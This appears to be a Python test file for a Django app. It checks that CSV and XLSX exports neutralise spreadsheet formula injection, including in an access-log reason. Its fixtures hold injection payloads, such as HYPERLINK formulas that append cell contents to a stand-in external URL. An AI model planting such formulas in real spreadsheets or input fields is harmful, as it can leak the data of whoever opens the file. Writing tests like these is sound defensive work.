"""CSV/XLSX formula injection: a text cell a spreadsheet would run is written as text (issue 16)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tovholder.layout.exports import neutralise, table_response

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1;"klik")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_a_formula_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-12", "-12,5", "-3.25", "Borgeroverblik", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert neutralise(text) == text


def _rows():
    return [[text, -5, Decimal("-2.5"), datetime.date(2026, 4, 8)] for text in HOSTILE]


def test_csv_cells_are_text_and_negative_numbers_stay_numbers():
    response = table_response("csv", "x", ["Tekst", "Tal", "Beløb", "Dato"], _rows())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in HOSTILE]
    assert {(r[1], r[2]) for r in rows} == {("-5", "-2,5")}


def test_xlsx_cells_are_strings_never_formulas():
    response = table_response("xlsx", "x", ["Tekst", "Tal", "Beløb", "Dato"], _rows())
    ws = load_workbook(io.BytesIO(response.content)).active
    for row, text in zip(ws.iter_rows(min_row=2), HOSTILE, strict=True):
        assert row[0].data_type == "s" and row[0].value.strip() == text.strip() and row[0].quotePrefix
        assert row[1].value == -5 and row[2].value == -2.5


def test_break_the_glass_reason_is_no_formula_in_the_access_log(client, world):
    reason = '=HYPERLINK("http://x.example/"&B2;"Se sagen")'
    client.force_login(world.caseworker)
    assert client.post(reverse("citizen_break_glass", args=[world.bo.pk]), {"reason": reason}).status_code == 302
    client.get(reverse("citizen", args=[world.bo.pk]))
    client.force_login(world.manager)
    response = client.get(reverse("citizen_access_log", args=[world.bo.pk]), {"format": "csv"})
    assert response.status_code == 200
    cells = [c for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for c in r]
    assert "'" + reason in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
